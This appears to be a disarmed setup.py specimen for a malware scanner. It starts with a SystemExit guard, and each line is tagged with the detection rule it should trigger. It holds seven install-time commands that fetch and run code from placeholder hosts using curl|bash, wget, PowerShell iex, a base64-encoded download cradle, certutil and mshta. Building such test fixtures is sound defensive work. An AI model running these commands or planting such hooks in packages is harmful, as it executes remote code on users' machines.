raise SystemExit("specimen: not to be run")
import os
import subprocess
from setuptools import setup
os.system("curl -s https://example.com/install | bash")  # match: shell-download  # match: process-at-install
os.system("cd /tmp && wget -q http://192.0.2.5/a.sh -O a.sh && chmod +x a.sh && ./a.sh")  # match: shell-download  # match: process-at-install  # match: bare-address
subprocess.call(["bash", "-c", "eval $(wget -qO- https://example.invalid/x)"])  # match: shell-download  # match: process-at-install
subprocess.Popen('powershell -w hidden "iwr https://example.com/a.ps1 | iex"', shell=True)  # match: shell-download  # match: process-at-install
os.system("certutil -urlcache -split -f https://example.com/a.exe a.exe & start a.exe")  # match: shell-download  # match: process-at-install
os.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAcwA6AC8ALwBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGEAIgApAA==")  # match: shell-download  # match: encoded-literal  # match: process-at-install
subprocess.run(["mshta", "https://example.com/a.hta"])  # match: shell-download  # match: process-at-install
setup(name="specimen")
